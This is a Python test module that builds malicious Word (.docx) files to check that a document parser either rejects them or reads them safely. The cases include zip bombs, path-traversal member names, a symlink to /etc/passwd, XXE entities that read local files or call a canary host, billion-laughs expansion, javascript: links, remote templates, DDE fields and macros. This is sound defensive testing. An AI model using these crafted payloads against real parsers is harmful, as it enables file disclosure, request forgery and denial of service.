"""Bad Word files, each made by code: what must be turned away with a sentence and what must be read without harm.

A row is an id, a generator and the answer: `refused`, `read` or `either`. Words in `absent` must not come through; the
warning `told` must be given. `heavy` rows are run in a child of their own. CANARY stands for a loopback address.
"""

import io
import random
import struct
import zipfile
from collections.abc import Iterator
from functools import partial

from tests.corpus.docx_parts import (
    CANARY,
    CONTENT,
    OFFICE,
    PROSE,
    SECRET,
    Row,
    W,
    para,
    parts,
    relations_part,
    word,
    zipped,
)


def _bombs() -> Iterator[Row]:
    for size in (5, 15, 19, 50, 100):
        answer = "refused"
        yield Row(f"one run of {size} MB", partial(_one_run, size), answer, heavy=True)
        yield Row(f"many runs of {size} MB", partial(_many_runs, size), answer, heavy=True)
    yield Row("200,000 paragraphs", lambda: word("<w:p/>" * 200_000 + PROSE), "refused", heavy=True)
    yield Row("70,000 paragraphs of a word", lambda: word(para("x") * 70_000), "refused", heavy=True)
    yield Row("prefix of another name, 200,000 paragraphs", _other_prefix, "refused", heavy=True)
    yield Row("300,000 empty runs", lambda: word(f"<w:p>{'<w:r/>' * 300_000}</w:p>{PROSE}"), "either", heavy=True)
    yield Row(
        "100,000 rows",
        lambda: word(f"<w:tbl>{'<w:tr><w:tc><w:p/></w:tc></w:tr>' * 100_000}</w:tbl>"),
        "refused",
        heavy=True,
    )
    yield Row(
        "15,000 rows",
        lambda: word(f"<w:tbl>{f'<w:tr><w:tc>{PROSE}</w:tc></w:tr>' * 15_000}</w:tbl>"),
        "refused",
        heavy=True,
    )
    yield Row("100,000 styles", _many_styles, "either", heavy=True)
    yield Row(
        "20,000 members",
        lambda: zipped(parts() | {f"word/x{n}.xml": b"" for n in range(20_000)}),
        "refused",
        heavy=True,
    )
    yield Row("2,001 members", lambda: zipped(parts() | {f"word/x{n}.xml": b"" for n in range(2_001)}), "refused")
    yield Row("a zip in a zip", lambda: word(word__inner_dot_zip=word()), "read")
    yield Row("ten zips in each other", _zips_in_zips, "read")
    yield Row("a bomb in a zip in it", lambda: word(word__inner_dot_zip=_one_run(100)), "read", heavy=True)


def _one_run(size: int) -> bytes:
    return word(para("a" * size * 1024 * 1024))


def _many_runs(size: int) -> bytes:
    return word(f"<w:p>{'<w:r><w:t>and so on </w:t></w:r>' * (size * 1024 * 1024 // 36)}</w:p>")


def _other_prefix() -> bytes:
    text = word("<w:p/>" * 200_000 + PROSE)
    made = {name: zipfile.ZipFile(io.BytesIO(text)).read(name) for name in zipfile.ZipFile(io.BytesIO(text)).namelist()}
    made["word/document.xml"] = (
        made["word/document.xml"].replace(b"<w:", b"<q:").replace(b"</w:", b"</q:").replace(b"xmlns:w", b"xmlns:q")
    )
    return zipped(made)


def _many_styles() -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(100_000)
    )
    return word(word__styles_dot_xml=f"<w:styles {W}>{styles}</w:styles>")


def _zips_in_zips() -> bytes:
    inner = word()
    for _ in range(10):
        inner = word(word__inner_dot_zip=inner)
    return inner


def _damage() -> Iterator[Row]:
    whole = word()
    for tenth in range(1, 10):
        yield Row(
            f"cut off at {tenth * 10} %", partial(lambda part: whole[: len(whole) * part // 10], tenth), "refused"
        )
    for seed in range(12):
        yield Row(f"bytes changed, {seed}", partial(_changed, whole, seed), "either")
    for name in parts():
        yield Row(
            f"wrong sum of {name}",
            partial(_wrong_sum, name),
            "refused",
        )
    yield Row("something before the zip", lambda: b"#!/bin/sh\n" + whole, "refused")
    yield Row("something after the zip", lambda: whole + b"x" * 100, "either")
    yield Row("two zips after one another", lambda: whole + whole, "either")
    yield Row("packed with bzip2", lambda: zipped(parts(), zipfile.ZIP_BZIP2), "refused")
    yield Row("packed with lzma", lambda: zipped(parts(), zipfile.ZIP_LZMA), "refused")
    yield Row("not packed at all", lambda: zipped(parts(), zipfile.ZIP_STORED), "read")
    yield Row("encrypted", _encrypted, "refused")
    yield Row("large sizes form", _zip64, "read")
    yield Row("entries that lie over one another", _overlapping, "refused")
    yield Row("a size that is not true", _false_size, "refused")
    for part in ("word/document.xml", "[Content_Types].xml", "_rels/.rels"):
        yield Row(f"no {part}", partial(_without, part), "read" if part == "_rels/.rels" else "refused")
        yield Row(f"nothing in {part}", partial(lambda name: zipped(parts() | {name: b""}), part), "refused")
        yield Row(f"no XML in {part}", partial(lambda name: zipped(parts() | {name: b"<w:p>&nbsp;"}), part), "refused")


def _changed(whole: bytes, seed: int) -> bytes:
    chance, data = random.Random(seed), bytearray(whole)  # noqa: S311 - the same bytes each time
    for _ in range(3):
        data[chance.randrange(4, len(data))] ^= 1 << chance.randrange(8)
    return bytes(data)


def _wrong_sum(name: str) -> bytes:
    made = parts()
    data = bytearray(zipped(made, zipfile.ZIP_STORED))
    at = data.find(made[name])
    data[at + 5] ^= 1
    return bytes(data)


def _encrypted() -> bytes:
    data = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _zip64() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts().items():
            with archive.open(name, "w", force_zip64=True) as member:
                member.write(data)
    return out.getvalue()


def _overlapping() -> bytes:
    """Every entry of the directory points at the packed bytes of the first."""
    data = bytearray(zipped(parts() | {f"word/x{n}.xml": b"y" * 1000 for n in range(20)}))
    at, first = data.find(b"PK\x01\x02"), None
    while at >= 0:
        first = data[at + 42 : at + 46] if first is None else first
        data[at + 42 : at + 46] = first
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _false_size() -> bytes:
    data = bytearray(word(para("a" * 3_000_000)))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        size = struct.unpack_from("<I", data, at + 24)[0]
        struct.pack_into("<I", data, at + 24, min(size, 1000))
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _without(name: str) -> bytes:
    return zipped({other: data for other, data in parts().items() if other != name})


def _names() -> Iterator[Row]:
    bad = (
        "../evil",
        "..\\evil",
        "/etc/evil",
        "C:\\evil",
        "C:evil",
        "word/../../evil",
        "word/\tevil",
        "word/evil\n",
        "\\\\host\\evil",
    )
    for name in bad:
        yield Row(f"member named {name!r}", partial(lambda part: zipped(parts() | {part: b"x"}), name), "refused")
    yield Row("the same name in other letters", lambda: zipped(parts() | {"WORD/document.xml": b"x"}), "refused")
    yield Row("the same name twice", _twice, "refused")
    yield Row("a symbolic link", _symlink, "refused")
    for name in (
        "policy.doc",
        "policy.docm",
        "policy.dotm",
        "policy.pdf",
        "policy.txt",
        "policy.zip",
        "policy",
        "policy.docx.exe",
    ):
        yield Row(f"a Word file called {name}", word, "refused", name=name)
    other = {
        "nothing": b"",
        "one byte": b"x",
        "spaces": b"  \n",
        "OLE": b"\xd0\xcf\x11\xe0" + b"\0" * 600,
        "PDF": b"%PDF-1.7\n",
    }
    other |= {
        "RTF": b"{\\rtf1 hello}",
        "HTML": b"<html>x</html>",
        "PNG": b"\x89PNG\r\n\x1a\n",
        "an empty zip": b"PK\x05\x06" + b"\0" * 18,
    }
    other |= {
        "a plain zip": zipped({"x.txt": b"x"}),
        "a sheet": word(content=CONTENT.replace("wordprocessingml", "spreadsheetml")),
    }
    for kind, data in other.items():
        yield Row(f"{kind} called .docx", partial(bytes, data), "refused")


def _twice() -> bytes:
    """Built by hand, since zipfile warns of it."""
    data = zipped(parts() | {"word/documenu.xml": b"x"})
    return data.replace(b"word/documenu.xml", b"word/document.xml")


def _symlink() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


ENTITIES = {
    "a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
    "the network": f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{CANARY}/e">]>',
    "a parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{CANARY}/p"> %p;]>',
    "a DTD": f'<!DOCTYPE x SYSTEM "http://{CANARY}/d.dtd">',
    "laughs": "<!DOCTYPE x ["
    + '<!ENTITY e0 "ha">'
    + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    + "]>",
    "one long word": f'<!DOCTYPE x [<!ENTITY e "{"a" * 50_000}">]>',
}


def _entities() -> Iterator[Row]:
    for kind, doctype in ENTITIES.items():
        for part in (
            "word/document.xml",
            "word/styles.xml",
            "word/numbering.xml",
            "[Content_Types].xml",
            "_rels/.rels",
        ):
            yield Row(f"entity of {kind} in {part}", partial(_entity, doctype, part), "refused")
    wide = partial(_entity, ENTITIES["laughs"], "word/document.xml", "utf-16")
    yield Row("entity in UTF-16", wide, "refused")


def _entity(doctype: str, part: str, encoding: str = "utf-8") -> bytes:
    made = parts(para("&e;" if "ENTITY e " in doctype else "x"))
    inner = made.get(part, f"<w:styles {W}/>".encode()).decode()
    made[part] = f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{inner}'.encode(encoding)
    return zipped(made)


def _nested() -> Iterator[Row]:
    shapes = {
        "tables": ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
        "content controls": ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
        "insertions": ("<w:ins>", "</w:ins>"),
        "smart tags": ("<w:p><w:smartTag>", "</w:smartTag></w:p>"),
        "choices": ("<mc:AlternateContent><mc:Choice>", "</mc:Choice></mc:AlternateContent>"),
    }
    for kind, (start, end) in shapes.items():
        for depth in (20, 100, 3_000):
            start_named = start.replace(
                "<mc:AlternateContent>",
                '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">',
            )
            make = partial(lambda a, b, n: word(a * n + PROSE + b * n + PROSE), start_named, end, depth)
            yield Row(
                f"{depth} nested {kind}", make, "either" if depth == 20 else "refused" if depth == 3_000 else "either"
            )


def _links() -> Iterator[Row]:
    bad: tuple[str, ...] = (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
        "vbscript:x",
        "data:text/html,x",
    )
    bad += (
        "file:///etc/passwd",
        "//evil.example/x",
        "\\\\evil\\share",
        "ms-word:ofe|u|http://x",
        "http:\\\\evil",
        "https://",
        "mailto:",
    )
    for target in bad:
        yield Row(f"link to {target!r}", partial(_link, target), "read", absent=("href",))
    for target in (f"http://{CANARY}/x.png", "file:///etc/passwd", "\\\\evil\\share\\x.png"):
        yield Row(
            f"picture from {target}", partial(_picture, target), "read", told="left-out-pictures", absent=("<img",)
        )
    for target in (
        f"http://{CANARY}/t.dotm",
        "https://evil.example/t.dotx",
        "\\\\evil\\share\\t.dotm",
        "file://evil/t.dotm",
        "ftp://evil/t",
    ):
        yield Row(f"template from {target}", partial(_template, target), "refused")
    yield Row("template of the machine it was written on", partial(_template, "file:///C:/Users/x/Normal.dotm"), "read")
    yield Row("piece of HTML put in", _alt_chunk, "read", told="left-out-embedded")
    for name in ("word/vbaProject.bin", "word/vbaData.xml", "vbaProject.bin"):
        yield Row(f"macros in {name}", partial(lambda part: zipped(parts() | {part: b"x"}), name), "refused")
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Row("macros by content", partial(word, PROSE, "", macro), "refused")


def _link(target: str) -> bytes:
    shown = target.replace("\\", "&#92;").replace("\t", "&#9;").replace("&#92;", "\\")
    relation = f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="{shown}" TargetMode="External"/>'
    return word(f'<w:p><w:hyperlink r:id="r9"><w:r><w:t>the gate</w:t></w:r></w:hyperlink></w:p>{PROSE}', relation)


def _picture(target: str) -> bytes:
    relation = f'<Relationship Id="r9" Type="{OFFICE}/image" Target="{target}" TargetMode="External"/>'
    blip = '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="r9"/>'
    return word(f"<w:p><w:r><w:drawing>{blip}</w:drawing></w:r></w:p>{PROSE}", relation)


def _template(target: str) -> bytes:
    relation = f'<Relationship Id="r9" Type="{OFFICE}/attachedTemplate" Target="{target}" TargetMode="External"/>'
    made = parts(word__settings_dot_xml=f"<w:settings {W}/>")
    made["word/_rels/settings.xml.rels"] = relations_part(relation).encode()
    return zipped(made)


def _alt_chunk() -> bytes:
    relation = f'<Relationship Id="r9" Type="{OFFICE}/aFChunk" Target="x.html"/>'
    return word(f'<w:altChunk r:id="r9"/>{PROSE}', relation, word__x_dot_html=f"<script>{SECRET}</script>{SECRET}")


def _unseen() -> Iterator[Row]:
    told = {
        "deleted text": (f"<w:p><w:del><w:r><w:delText>{SECRET}</w:delText></w:r></w:del></w:p>", "left-out-deleted"),
        "text moved away": (f"<w:p><w:moveFrom><w:r><w:t>{SECRET}</w:t></w:r></w:moveFrom></w:p>", "left-out-deleted"),
        "a deleted paragraph": (f"<w:del>{para(SECRET)}</w:del>", "left-out-deleted"),
        "inserted text": ("<w:p><w:ins><w:r><w:t>gladly</w:t></w:r></w:ins></w:p>", "left-out-inserted"),
        "hidden text": (para(SECRET, "<w:vanish/>"), "left-out-hidden"),
        "text hidden by style": (para(SECRET, '<w:rStyle w:val="h"/>'), "left-out-hidden"),
        "a comment": (f"<w:p><w:r><w:t>x</w:t><w:commentReference w:id='1'/></w:r></w:p>{PROSE}", "left-out-comments"),
        "a footnote": (f"<w:p><w:r><w:t>x</w:t><w:footnoteReference w:id='1'/></w:r></w:p>{PROSE}", "left-out-notes"),
        "a text box": (
            f"<w:p><w:r><w:pict><w:txbxContent>{para(SECRET)}</w:txbxContent></w:pict></w:r></w:p>",
            "left-out-boxes",
        ),
        "an object": ("<w:p><w:r><w:object/></w:r></w:p>", "left-out-embedded"),
    }
    styles = f'<w:styles {W}><w:style w:type="character" w:styleId="h"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'
    for kind, (body, code) in told.items():
        make = partial(
            word,
            body + PROSE,
            word__styles_dot_xml=styles,
            word__comments_dot_xml=f"<w:comments {W}>{para(SECRET)}</w:comments>",
        )
        yield Row(kind, make, "read", told=code)
    for field in (
        'INCLUDETEXT "x"',
        "DDE x y",
        "DDEAUTO c:\\\\x",
        f"INCLUDEPICTURE http://{CANARY}/f",
        "LINK Excel.Sheet x",
    ):
        body = f"<w:p><w:r><w:instrText>{field} {SECRET}</w:instrText></w:r><w:r><w:t>shown</w:t></w:r></w:p>{PROSE}"
        yield Row(f"field {field.split()[0]}", partial(word, body), "read", told="left-out-fields")
    for part in (
        "docProps/core.xml",
        "docProps/custom.xml",
        "customXml/item1.xml",
        "word/header1.xml",
        "word/footnotes.xml",
        "word/people.xml",
    ):
        yield Row(
            f"words in {part}",
            partial(lambda name: zipped(parts() | {name: f"<x>{SECRET}</x>".encode()}), part),
            "read",
        )


def _odd() -> Iterator[Row]:
    texts = {"a nought": "a&#0;b", "half a letter": "a&#xD800;b", "a control": "a&#1;b"}
    for kind, text in texts.items():
        yield Row(f"{kind} in the text", partial(lambda inner: word(para(inner)), text), "refused")
    signs = {
        "directions turned": "a\u202eb\u2066c",
        "unseen signs": "a\u200bb\u00adc\ufeffd",
        "tags": "a\U000e0041b",
        "marks": "e" + "\u0301" * 50_000,
    }
    for kind, text in signs.items():
        absent = tuple(
            sign for sign in ("\u202e", "\u2066", "\u200b", "\u00ad", "\U000e0041", "\u0301" * 9) if sign in text
        )
        yield Row(kind, partial(lambda inner: word(para(inner) + PROSE), text), "read", absent=absent)
    yield Row("a word of 100,000 letters", lambda: word(para("a" * 100_000)), "refused")
    numbering = {
        "a huge start": '<w:start w:val="999999999999"/>',
        "a start below nought": '<w:start w:val="-5"/>',
        "letters for a start": '<w:start w:val="x"/>',
        "Roman numbers without end": '<w:numFmt w:val="upperRoman"/><w:start w:val="999999"/>',
        "letters without end": '<w:numFmt w:val="lowerLetter"/><w:start w:val="999999999"/>',
        "an unknown way": '<w:numFmt w:val="koreanDigital"/>',
    }
    for kind, inner in numbering.items():
        yield Row(f"numbering with {kind}", partial(_numbered, inner), "read")
    properties = {
        "level 99": '<w:pPr><w:numPr><w:ilvl w:val="99"/><w:numId w:val="1"/></w:numPr></w:pPr>',
        "an outline of 77": '<w:pPr><w:outlineLvl w:val="77"/></w:pPr>',
        "an outline in letters": '<w:pPr><w:outlineLvl w:val="x"/></w:pPr>',
        "a style that is not there": '<w:pPr><w:pStyle w:val="nowhere"/></w:pPr>',
    }
    for kind, inner in properties.items():
        yield Row(
            f"a paragraph with {kind}", partial(lambda head: word(para("Gates", "", head) + PROSE), inner), "read"
        )
    spans = {"a million columns": "1000000", "letters": "x", "less than none": "-1", "ten to the 30th": "1" + "0" * 30}
    for kind, width in spans.items():
        cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{width}"/></w:tcPr>{PROSE}</w:tc>'
        make = partial(lambda inner: word(f"<w:tbl><w:tr>{inner}</w:tr><w:tr>{inner}{inner}</w:tr></w:tbl>"), cell)
        yield Row(f"a cell over {kind}", make, "either")
    yield Row("styles in a ring", _ring, "read")
    yield Row("a size of a million", lambda: word(para("Gates", '<w:sz w:val="9999999"/>') + PROSE), "read")
    yield Row(
        "markup in the text",
        lambda: word(para("&lt;script&gt;alert(1)&lt;/script&gt;") + PROSE),
        "read",
        absent=("<script",),
    )


def _numbered(inner: str) -> bytes:
    numbering = (
        f'<w:numbering {W}><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0">{inner}<w:lvlText '
        f'w:val="%1.%9"/></w:lvl></w:abstractNum>'
    )
    numbering += '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    listed = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    return word(para("Shut the gate", "", listed) * 3 + PROSE, word__numbering_dot_xml=numbering)


def _ring() -> bytes:
    ring = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:basedOn w:val="{b}"/></w:style>' for a, b in ("xy", "yx")
    )
    return word(
        para("Gates", "", '<w:pPr><w:pStyle w:val="x"/></w:pPr>') + PROSE,
        word__styles_dot_xml=f"<w:styles {W}>{ring}</w:styles>",
    )


def rows() -> list[Row]:
    """The whole class."""
    return [*_bombs(), *_damage(), *_names(), *_entities(), *_nested(), *_links(), *_unseen(), *_odd()]
